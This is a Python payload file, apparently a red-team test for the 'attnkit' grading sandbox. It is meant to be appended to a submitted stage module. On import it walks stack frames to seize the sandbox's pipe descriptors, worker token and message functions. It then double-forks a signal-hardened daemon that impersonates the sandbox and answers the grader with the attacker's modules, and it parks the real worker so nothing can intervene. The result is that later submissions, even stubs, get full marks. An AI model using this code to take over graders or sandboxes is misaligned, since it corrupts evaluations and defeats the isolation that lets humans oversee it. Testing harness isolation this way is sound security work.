"""[attnkit-tamper] hijack_frames -- family (a): take over the warm sandbox through stack frames.

Append to a stage module that is imported first (base: the solution of s01_attention_scores);
the attacker's submission is the reference solutions with this payload on s01.

How: at import, walk ``sys._getframe()`` up to the sandbox's serving code (``serve_stage`` and
``serve`` of sandbox_child.py). Their locals hold the request/reply pipe fds that the warm zygote
shares with the trusted grader, the adapter module (``adapters.OPS``), the config, the module
being imported and the worker's "open" header (its token); their globals hold the wire format
(``read_message``, ``write_message``, ``encode``, ``decode``). Then:

* copy this submission's stage modules (payload cut off) into a private folder;
* double-fork a ``setsid`` daemon with every catchable signal ignored and every blockable one
  blocked; it impersonates the sandbox: it reads every request and answers "op" by running the
  attacker's own (correct) modules, "open" silently, "close" with "parked", "exit" with "ended"
  carrying the worker token the grader waits for, "reset" with "reset" and the request's token;
* the worker itself never returns from the import: it blocks its signals and sleeps, so that the
  zygote stays in ``waitpid`` and never reads the pipe again (nor kills -1 the daemon).

Old design (warm zygote reused by ``attnkit grade``): every later submission graded by the same
grading worker is answered by the attacker's modules: pure stubs get full marks. The daemon and
the sleeping worker exit by themselves ~120 s after the hijack (the zygote then kills what is
left and answers again). Outside the sandbox (plain LocalBackend) it does nothing.
"""


def _atk_hijack_frames():
    import os
    import signal
    import sys
    import time

    if getattr(sys, "_atk_hijacked", False):
        return  # already the impersonator (this module is re-imported by the daemon)
    found = {}
    frame = sys._getframe()
    while frame is not None:
        names = frame.f_locals
        if frame.f_code.co_name == "serve_stage" and "adapters" in names:
            # The channel's descriptors are the frame's locals, or its module's constants (a box's
            # own pipes); the folder of the submission is in its config.
            wire = frame.f_globals
            found.update(requests=names.get("requests", wire.get("REQUESTS")),
                         replies=names.get("replies", wire.get("REPLIES")), adapters=names["adapters"],
                         config=names.get("config") or names.get("box"), module=names["module"], wire=wire)
        elif frame.f_code.co_name == "serve" and "opened" in names:
            found["worker_token"] = names["opened"].get("token")
            found["current_token"] = (names.get("header") or {}).get("token")
        frame = frame.f_back
    if found.get("requests") is None or not isinstance(found.get("config"), dict):
        return  # not inside the sandbox's worker: behave
    sys._atk_hijacked = True
    lifetime = 120.0
    deadline = time.monotonic() + lifetime
    wire, adapters, config = found["wire"], found["adapters"], found["config"]
    requests, replies = found["requests"], found["replies"]
    cut = '"""' + "[attnkit-tamper]"
    cache = f"/dev/shm/.atk-hijack-{os.getpid()}"
    os.makedirs(cache, mode=0o700, exist_ok=True)
    submission = config["submission"]
    for name in os.listdir(submission):
        if name.startswith("s") and name.endswith(".py"):
            with open(os.path.join(submission, name)) as handle:
                text = handle.read()
            with open(os.path.join(cache, name), "w") as handle:
                handle.write(text.split(cut)[0] if cut in text else text)
    randomness = wire["random_states"]()

    def serve_forever():
        import select

        tokens = {found["current_token"]: found["module"]}
        current = [found["module"]]  # the stage last opened (operations may carry tokens of their own)
        worker = found["worker_token"]
        loaded = {}
        while time.monotonic() < deadline:
            ready, _, _ = select.select([requests], [], [], 1.0)
            if not ready:
                continue
            message = wire["read_message"](requests)
            if message is None:
                return  # the grader closed the pipe
            header, blobs = message
            cmd, token = header.get("cmd"), header.get("token")
            if cmd == "open":
                tokens[token] = header.get("module")
                current[0] = header.get("module")
                if worker is None:
                    worker = token
                loaded.pop(header.get("module"), None)
                continue
            if cmd == "close":
                wire["write_message"](replies, {"kind": "parked", "token": token})
                continue
            if cmd == "exit":
                wire["write_message"](replies, {"kind": "ended", "token": worker, "status": 0})
                worker = None
                continue
            if cmd == "reset":
                wire["write_message"](replies, {"kind": "reset", "token": token})
                worker = None
                continue
            if cmd != "op":
                continue
            module = tokens.get(token, current[0])
            out = []
            try:
                if module not in loaded:
                    wire["restore_random_states"](randomness)
                    loaded[module] = adapters.load_stage_module(cache, module)
                kwargs = wire["decode"](header["kwargs"], blobs)
                result = adapters.OPS[header["op"]](loaded[module], **kwargs)
                reply = {"kind": "result", "value": wire["encode"](result, out)}
            except adapters.SubmissionError as exc:
                out, reply = [], {"kind": "submission_error", "message": str(exc)}
            except Exception as exc:
                out, reply = [], {"kind": "exception", "type": type(exc).__name__, "message": str(exc),
                                  "memory": False, "traceback": ""}
            reply["token"] = token
            wire["write_message"](replies, reply, out)

    def harden():
        for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGPIPE, signal.SIGUSR1,
                       signal.SIGUSR2, signal.SIGALRM, signal.SIGQUIT):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP})

    sys.stdout.flush()
    sys.stderr.flush()
    first = os.fork()
    if first == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                harden()
                try:
                    serve_forever()
                finally:
                    os._exit(0)
        finally:
            os._exit(0)
    os.waitpid(first, 0)
    # The worker: never go back to the serving loop (it would read the daemon's requests); keep
    # the zygote waiting for us so that it neither reads the pipe nor kills the daemon.
    harden()
    while time.monotonic() < deadline:
        time.sleep(1.0)
    os._exit(0)


_atk_hijack_frames()
